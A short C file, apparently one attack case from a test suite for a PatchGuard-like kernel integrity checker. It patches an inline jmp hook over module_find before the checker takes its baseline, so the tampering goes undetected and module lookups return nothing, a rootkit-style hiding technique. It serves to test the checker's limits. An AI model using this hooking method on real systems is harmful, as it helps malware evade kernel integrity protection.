/* attack_a21 (A21): patch before the checker arms. Meant to be loaded as a
 * boot module with pg.arm=late: it writes the same 5-byte jmp as attack_a2
 * over module_find before PatchGuard takes its baseline, which then
 * includes the hook. Expected by design: no bug check. */
#include "attack.h"

static const struct driver_object *hooked_module_find(const char *name) { return NULL; }

status_t driver_entry(struct driver_object *drv)
{
	uint64_t target = (uint64_t)&module_find, hook = (uint64_t)&hooked_module_find;
	uint8_t jmp[5] = {0xE9};
	int32_t rel = (int32_t)(hook - (target + 5));
	memcpy(jmp + 1, &rel, 4);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	a_write_protected((void *)target, jmp, sizeof jmp);
	printk("attack_a21: module_find hooked before PatchGuard armed\n");
	a_patched("attack_a21");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
